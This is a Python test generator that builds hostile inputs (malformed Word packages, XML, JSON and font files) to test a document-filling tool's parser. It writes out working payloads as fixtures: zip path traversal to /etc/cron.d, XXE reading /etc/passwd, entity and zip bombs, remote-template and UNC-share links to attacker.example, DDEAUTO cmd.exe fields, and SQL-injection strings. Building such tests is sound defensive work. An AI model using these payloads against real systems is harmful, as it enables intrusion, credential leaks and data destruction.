#!/usr/bin/env python3
"""Generate one hostile input for tests/hostile/cases.tsv.

usage: gen.py KIND OUT EXAMPLE.json
Big and binary inputs are made here at test time instead of being committed.
KIND names a generator below (pkg_*: packages, json_*: import data,
font_*: font files, tpl_*: templates whose hostility is in the content).
Every package is built with zipfile and patched byte by byte where a header
must lie, so each hostile property is exact.
"""
import json, os, random, struct, sys, warnings, zipfile, zlib
warnings.filterwarnings("ignore")

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
      '</Types>')
OFFICEDOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def rels(*items):
    s = ('<?xml version="1.0" encoding="UTF-8"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')
    for rid, typ, target, mode in items:
        s += f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"' + (
            f' TargetMode="{mode}"' if mode else "") + "/>"
    return s + "</Relationships>"


ROOT_RELS = rels(("rId1", OFFICEDOC, "word/document.xml", None))


def body(inner):
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{inner}</w:body></w:document>')


def para(text):
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


DOC = body(para("臺中市政府 {applicant.name}"))


def parts(doc=DOC, extra=(), root_rels=ROOT_RELS, ct=CT, doc_rels=None):
    p = [("[Content_Types].xml", ct), ("_rels/.rels", root_rels), ("word/document.xml", doc)]
    if doc_rels is not None:
        p.append(("word/_rels/document.xml.rels", doc_rels))
    return p + list(extra)


def write(out, items, method=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in items:
            z.writestr(zipfile.ZipInfo(name), data, compress_type=method)


def patch_headers(out, name, fn):
    """Call fn(data, header_offset, is_central) for every header of entry name."""
    data = bytearray(open(out, "rb").read())
    target = name.encode()
    i = 0
    while True:
        i = data.find(target, i)
        if i < 0:
            break
        if data[i - 30:i - 26] == b"PK\x03\x04":
            fn(data, i - 30, False)
        elif data[i - 46:i - 42] == b"PK\x01\x02":
            fn(data, i - 46, True)
        i += 1
    open(out, "wb").write(bytes(data))


# ==== Packages ====

def pkg_good(out):
    write(out, parts())


def pkg_notzip(out):
    open(out, "wb").write(b"%PDF-1.4 this is not a zip file\n" * 20)


def pkg_empty(out):
    open(out, "wb").write(b"")


def pkg_random(out):
    random.seed(8)
    open(out, "wb").write(b"PK\x03\x04" + bytes(random.getrandbits(8) for _ in range(4096)))


def pkg_ole(out):
    open(out, "wb").write(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 1000)


def pkg_truncated(out):
    write(out, parts(extra=[("word/media/pad.bin", os.urandom(20000))]))
    data = open(out, "rb").read()
    open(out, "wb").write(data[: len(data) * 2 // 3])


def pkg_corrupt_deflate(out):
    # A compressible document so its deflate stream is long; damage its middle.
    doc = body("".join(para(f"第{i}段 {{name}} 臺中市政府數位發展局") for i in range(400)))
    write(out, parts(doc=doc))
    data = bytearray(open(out, "rb").read())
    i = data.find(b"word/document.xml")
    start = i + len("word/document.xml")
    for k in range(start + 200, start + 260):
        data[k] ^= 0x5A
    open(out, "wb").write(bytes(data))


def pkg_encrypted(out):
    write(out, parts())

    def flag(d, off, central):
        pos = off + (8 if central else 6)
        struct.pack_into("<H", d, pos, struct.unpack_from("<H", d, pos)[0] | 1)
    patch_headers(out, "word/document.xml", flag)


def set_method(out, m):
    write(out, parts())

    def method(d, off, central):
        struct.pack_into("<H", d, off + (10 if central else 8), m)
    patch_headers(out, "word/document.xml", method)


def pkg_method(out):
    set_method(out, 6)  # PKWARE implode: no reader supports it


def pkg_method_aes(out):
    set_method(out, 99)  # WinZip AES marker without its extra field


def pkg_liar(out):
    write(out, parts(extra=[("word/media/liar.bin", b"A" * 3000000)]))

    def size(d, off, central):
        struct.pack_into("<I", d, off + (24 if central else 22), 100)
    patch_headers(out, "word/media/liar.bin", size)


def pkg_huge_honest(out):
    # 130 MiB inflated, honest headers: over the 128 MiB part limit.
    big = b"\0" * (130 << 20)
    write(out, parts(extra=[("word/media/huge.bin", big)]))


def pkg_ratio_bomb(out):
    write(out, parts(extra=[("word/media/bomb.bin", b"\0" * (40 << 20))]))


def pkg_big_ok(out):
    # A valid package of 300 KB that cannot compress: fills small disks.
    random.seed(1)
    write(out, parts(extra=[("word/media/noise.bin", bytes(random.getrandbits(8) for _ in range(300000)))]))


def pkg_many(out):
    write(out, parts(extra=[(f"word/media/f{i}.txt", "x") for i in range(20000)]),
          zipfile.ZIP_STORED)


def pkg_dup(out):
    write(out, parts(extra=[("word/document.xml", DOC)]))


def pkg_casedup(out):
    write(out, parts(extra=[("Word/Document.XML", DOC)]))


def pkg_dotdot(out):
    write(out, parts(extra=[("../../../tmp/gongwen-evil.txt", "x")]))


def pkg_absolute(out):
    write(out, parts(extra=[("/etc/cron.d/evil", "x")]))


def pkg_backslash(out):
    write(out, parts(extra=[("word\\..\\..\\evil.txt", "x")]))


def pkg_rel_outside(out):
    write(out, parts(root_rels=rels(("rId1", OFFICEDOC, "../../../etc/passwd", None))))


def pkg_rel_external(out):
    write(out, parts(root_rels=rels(("rId1", OFFICEDOC, "file:///etc/passwd", "External"))))


def pkg_rel_external_image(out):
    # An image fetched from a remote share (the NTLM-leak trick); the reader
    # must refuse to resolve it, never fetch it.
    doc = body('<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
               'r:link="rId9"/></w:drawing></w:r></w:p>' + para("{applicant.name}"))
    write(out, parts(doc=doc, doc_rels=rels(
        ("rId9", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
         "\\\\attacker.example\\share\\x.png", "External"))))


def pkg_attached_template(out):
    # Remote template injection: settings.xml.rels → attachedTemplate External.
    ct = CT.replace("</Types>", '<Override PartName="/word/settings.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>')
    write(out, parts(ct=ct, doc_rels=rels(
        ("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings",
         "settings.xml", None)), extra=[
        ("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'),
        ("word/_rels/settings.xml.rels", rels(
            ("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
             "https://attacker.example/t.dotm", "External")))]))


def pkg_macro(out):
    write(out, parts(extra=[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0" + b"\0" * 100)]))


def pkg_macro_ct(out):
    write(out, parts(ct=CT.replace("document.main+xml", "document.macroEnabled.main+xml")))


def pkg_not_word(out):
    write(out, parts(ct=CT.replace("wordprocessingml.document.main+xml",
                                   "spreadsheetml.sheet.main+xml")))


def pkg_no_ct(out):
    write(out, parts()[1:])


def pkg_xxe_file(out):
    write(out, parts(doc='<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                         f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'))


def pkg_xxe_dtd(out):
    write(out, parts(doc='<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/x.dtd">'
                         f'<w:document xmlns:w="{W}"><w:body/></w:document>'))


def pkg_billion_laughs(out):
    ents = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{i} "' + f"&l{i-1};" * 10 + '">' for i in range(1, 10))
    write(out, parts(doc=f'<?xml version="1.0"?><!DOCTYPE d [{ents}]>'
                         f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'))


def pkg_quadratic(out):
    big = "A" * 50000
    write(out, parts(doc=f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "{big}">]>'
                         f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>' + "&a;" * 50000 +
                         '</w:t></w:r></w:p></w:body></w:document>'))


def pkg_utf16_doctype(out):
    # The DOCTYPE in UTF-16 slips past a byte search for "<!DOCTYPE"; the
    # parsed tree's subset must still be refused.
    text = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "boom">]>'
            f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>')
    write(out, parts(doc=text.encode("utf-16")))


def pkg_deep_nesting(out):
    n = 20000  # under 1 MiB, so the compression-ratio limit does not step in first
    write(out, parts(doc=body("<w:p>" + "<w:r>" * n + "</w:r>" * n + "</w:p>")))


def pkg_non_utf8(out):
    write(out, parts(doc=body(para("abc")).encode() .replace(b"abc", b"\xff\xfe\xc0\xaf")))


def pkg_latin1_lie(out):
    # Declares UTF-8, holds Big5 bytes (a real mistake from old tools).
    write(out, parts(doc=body(para("XX")).encode().replace(b"XX", "臺中市".encode("big5"))))


def pkg_bad_xml(out):
    write(out, parts(doc=f'<w:document xmlns:w="{W}"><w:body><w:p></w:body></w:document>'))


def pkg_nul_in_xml(out):
    write(out, parts(doc=body(para("a\0b")).encode()))


def tpl_dde(out):
    doc = body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
               '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
               '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "C:\\\\Windows\\\\win.ini" </w:instrText></w:r>'
               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
               + para("{applicant.name}"))
    write(out, parts(doc=doc))


def tpl_altchunk(out):
    ct = CT.replace("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>')
    doc = body('<w:altChunk r:id="rId7"/>' + para("{applicant.name}"))
    write(out, parts(doc=doc, ct=ct, doc_rels=rels(
        ("rId7", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk",
         "chunk.html", None)), extra=[("word/chunk.html", "<html><body><script>alert(1)</script></body></html>")]))


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def tpl_activex(out):
    # An ActiveX control (w:control → activeX/activeX1.xml → the binary).
    doc = body('<w:p><w:r><w:object><w:control r:id="rId8" w:name="CheckBox1"/></w:object></w:r></w:p>'
               + para("{applicant.name}"))
    write(out, parts(doc=doc, doc_rels=rels(("rId8", RELS + "control", "activeX/activeX1.xml", None)), extra=[
        ("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                      'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')]))


def tpl_vba_elsewhere(out):
    # A VBA project under another name than word/vbaProject.bin, by relationship.
    write(out, parts(doc_rels=rels(("rId3", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                    "macros.bin", None)),
                     extra=[("word/macros.bin", b"\xD0\xCF\x11\xE0" + b"\0" * 100)]))


def tpl_external_links(out):
    # Fetched on open: a linked OLE object, a subDocument, a frame; a file: link;
    # the https and mailto links stay allowed.
    write(out, parts(doc_rels=rels(
        ("rId1", RELS + "oleObject", "file://attacker.example/share/x.xlsx", "External"),
        ("rId2", RELS + "subDocument", "https://attacker.example/sub.docx", "External"),
        ("rId3", RELS + "frame", "https://attacker.example/frame.html", "External"),
        ("rId4", RELS + "hyperlink", "file://attacker.example/share/", "External"),
        ("rId5", RELS + "hyperlink", "https://www.taichung.gov.tw/", "External"),
        ("rId6", RELS + "hyperlink", "mailto:epb@taichung.gov.tw", "External"))))


def tpl_name(out):
    write(out, parts(doc=body(para("{applicant.name}"))))


def tpl_id(out):
    write(out, parts(doc=body(para("{id}"))))


# ==== Import data ====

def example():
    return json.load(open(sys.argv[3]))


def dump(out, obj):
    with open(out, "w", encoding="utf-8") as f:
        json.dump(obj, f, ensure_ascii=False)


def with_field(out, value, app_id="H-1", where=("applicant", "name")):
    a = example()
    a["id"] = app_id
    a[where[0]][where[1]] = value
    dump(out, a)


def json_invalid_utf8(out):
    a = example()
    a["id"] = "H-1"
    a["applicant"]["name"] = "@@BAD@@"
    text = json.dumps(a, ensure_ascii=False).encode().replace(b"@@BAD@@", b"\xe8\x87\xba\xff\xc0\xaf")
    open(out, "wb").write(text)


def json_nul(out):
    with_field(out, "王\u0000小明")


def json_control(out):
    with_field(out, "王\u001b[31m小明\u0007")


def json_fffe(out):
    with_field(out, "王\ufffe小明")


def json_cdata_end(out):
    with_field(out, "a]]>b<![CDATA[c")


def json_wt_close(out):
    with_field(out, '</w:t></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText><w:t>')


def json_sql(out):
    with_field(out, "x'); DROP TABLE applications; --", app_id="H-SQL")


def json_sql_id(out):
    with_field(out, "x", app_id="1' OR '1'='1")


def json_10mb(out):
    with_field(out, "臺" * (10 * 1024 * 1024 // 3))


def json_100k_array(out):
    a = example()
    a["id"] = "H-1"
    a["devices"] = [{"seq": i, "name": f"設備{i}"} for i in range(100000)]
    dump(out, a)


def json_100k_apps(out):
    open(out, "w").write("[" + ",".join(["1"] * 100000) + "]")


def json_deep(out):
    open(out, "w").write("[" * 100000 + "]" * 100000)


def json_deep_obj(out):
    open(out, "w").write('{"id":"H-1","agency":' + '{"a":' * 5000 + "1" + "}" * 5001)


def json_dupkey(out):
    open(out, "w").write('{"id": "H-1", "id": "H-2"}')


def json_bigint(out):
    a = example()
    a["id"] = "H-1"
    text = json.dumps(a, ensure_ascii=False).replace('"qty": 1', '"qty": 123456789012345678901234567890', 1)
    open(out, "w").write(text)


def json_negative(out):
    a = example()
    a["id"] = "H-1"
    a["devices"][0]["qty"] = -5
    dump(out, a)


def json_key_control(out):
    open(out, "w").write('{"id": "H-1", "\\u001b[2J\\u001b[Hinjected\\nline": 1}')


def json_binary(out):
    random.seed(3)
    open(out, "wb").write(bytes(random.getrandbits(8) for _ in range(5000)))


def json_empty(out):
    open(out, "wb").write(b"")


def json_huge_file(out):
    # Sparse: 300 MiB of zeros without using the disk.
    with open(out, "wb") as f:
        f.truncate(300 << 20)


def id_value(v):
    return lambda out: with_field(out, "x", app_id=v)


json_id_dotdot = id_value("../../etc/cron.d/x")
json_id_slash = id_value("a/b")
json_id_control = id_value("a\u0007b\nc")
json_id_300 = id_value("A" * 300)
json_id_empty = id_value("")
json_id_dot = id_value("..")


def json_names(out):
    # Mail-merge records whose ids would make hostile output names.
    a = example()
    ids = ["../escape", "../../escape2", "a/b", "/abs", "x\u0007y", "A" * 300, "", ".", "..",
           "con", "ok-1"]
    recs = []
    for i in ids:
        r = json.loads(json.dumps(a))
        r["id"] = i
        recs.append(r)
    dump(out, recs)


def json_two(out):
    a = example()
    b = json.loads(json.dumps(a))
    a["id"], b["id"] = "ID-DEV", "ID-OK"
    dump(out, [a, b])


def json_bad_date(out):
    a = example()
    a["id"] = "H-1"
    a["move"]["planned_date"] = "2026-13-45'; --"
    dump(out, a)


# ==== Fonts ====

def sfnt(tables):
    """A TrueType file from {tag: bytes}, with a correct table directory."""
    tags = sorted(tables)
    n = len(tags)
    head = struct.pack(">IHHHH", 0x00010000, n, 16, 0, 0)
    off = 12 + 16 * n
    dirs, blobs = b"", b""
    for t in tags:
        data = tables[t]
        dirs += struct.pack(">4sIII", t.encode(), 0, off + len(blobs), len(data))
        blobs += data + b"\0" * (-len(data) % 4)
    return head + dirs + blobs


def font_tables(upem=1000, fstype=0):
    head = struct.pack(">IIIIHHqqhhhhHHhhh", 0x00010000, 0x00010000, 0, 0x5F0F3CF5, 0, upem,
                       0, 0, 0, -200, 1000, 800, 0, 8, 2, 0, 0)
    hhea = struct.pack(">IhhhHhhhhhhhhhhhH", 0x00010000, 800, -200, 0, 1000, 0, 0, 1000, 1, 0, 0,
                       0, 0, 0, 0, 0, 2)
    maxp = struct.pack(">IH", 0x00005000, 2)
    hmtx = struct.pack(">HhHh", 500, 0, 1000, 0)
    # cmap: one (3,1) format-4 subtable mapping U+4E00 → glyph 1.
    segs = [(0x4E00, 0x4E00, 1 - 0x4E00), (0xFFFF, 0xFFFF, 1)]
    sc = len(segs)
    f4 = struct.pack(">HHHHHHH", 4, 16 + 8 * sc, 0, sc * 2, 2, 0, 0)
    f4 += b"".join(struct.pack(">H", e) for _, e, _ in segs) + b"\0\0"
    f4 += b"".join(struct.pack(">H", s) for s, _, _ in segs)
    f4 += b"".join(struct.pack(">h", d if d < 32768 else d - 65536) for _, _, d in segs)
    f4 += b"\0\0" * sc
    cmap = struct.pack(">HHHHI", 0, 1, 3, 1, 12) + f4
    os2 = struct.pack(">HhHHH", 3, 500, 400, 5, fstype) + b"\0" * 86
    name = struct.pack(">HHH", 0, 0, 6)
    post = struct.pack(">IIhhIIIII", 0x00030000, 0, 0, 0, 0, 0, 0, 0, 0)
    loca = struct.pack(">HHH", 0, 0, 0)
    glyf = b""
    return {"head": head, "hhea": hhea, "maxp": maxp, "hmtx": hmtx, "cmap": cmap,
            "OS/2": os2, "name": name, "post": post, "loca": loca, "glyf": glyf}


def font_ok(out):
    open(out, "wb").write(sfnt(font_tables()))


def font_upem0(out):
    open(out, "wb").write(sfnt(font_tables(upem=0)))


def font_truncated(out):
    data = sfnt(font_tables())
    open(out, "wb").write(data[:40])


def font_random(out):
    random.seed(5)
    open(out, "wb").write(bytes(random.getrandbits(8) for _ in range(20000)))


def font_restricted(out):
    open(out, "wb").write(sfnt(font_tables(fstype=0x0002)))


def font_bad_dir(out):
    t = font_tables()
    data = bytearray(sfnt(t))
    struct.pack_into(">I", data, 12 + 8, 0x7FFFFFF0)  # first table's offset far past the end
    open(out, "wb").write(bytes(data))


if __name__ == "__main__":
    kind, out = sys.argv[1], sys.argv[2]
    fn = globals().get(kind)
    if not callable(fn) or not kind.split("_")[0] in ("pkg", "json", "font", "tpl"):
        sys.exit("gen.py: unknown kind " + kind)
    fn(out)
